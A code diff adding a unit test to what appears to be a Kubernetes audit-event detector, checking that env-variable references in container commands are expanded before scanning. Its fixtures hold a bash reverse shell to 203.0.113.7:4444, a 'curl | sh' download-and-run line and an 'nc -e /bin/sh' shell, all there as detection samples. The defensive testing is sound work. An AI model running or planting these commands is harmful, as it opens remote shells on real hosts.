@@ -95,6 +95,23 @@ describe('workload fields', () => {
     expect(field('claim', e)).toEqual(['llama-ft-ckpt']);
   });
 
+  it('expand $(NAME) in command and args from the container literal env values, as the kubelet does, and not in hooks', () => {
+    const hidden = write({ spec: { containers: [container('c', {
+      command: ['sh', '-c', '$(P)'],
+      env: [{ name: 'HOST', value: '203.0.113.7' }, { name: 'P', value: 'bash -i >& /dev/tcp/$(HOST)/4444 0>&1' }],
+      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'echo $(HOST)'] } } },
+    })] } });
+    expect(field('socketIo', hidden)).toEqual(['shell bash']);
+    expect(field('command', hidden)).toContain('echo $(HOST)');
+    expect(field('env', hidden)).toEqual(['HOST=203.0.113.7', 'P=bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
+    const args = write({ spec: { containers: [container('c', { args: ['-c', '$(CMD)'], env: [{ name: 'CMD', value: 'curl -s http://203.0.113.7/x | sh' }] })] } });
+    expect(field('pipedToShell', args)).toEqual(['curl']);
+    // $$(NAME) is the literal text, and a secret's value is not in the request: both stay references.
+    const kept = write({ spec: { containers: [container('c', { command: ['sh', '-c', 'echo $$(P) $(TOKEN)'], env: [{ name: 'P', value: 'nc -e /bin/sh h 1' }, { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] })] } });
+    expect(field('socketIo', kept)).toEqual([]);
+    expect(field('command', kept)).toContain('echo $(P) $(TOKEN)');
+  });
+
   it('are undefined on events without containers and empty where containers run nothing they name', () => {
     const service = write({ kind: 'Service', spec: { ports: [{ port: 80 }] } }, 'services');
     const exec = auditEvent({ verb: 'create', objectRef: { resource: 'pods', subresource: 'exec' } });
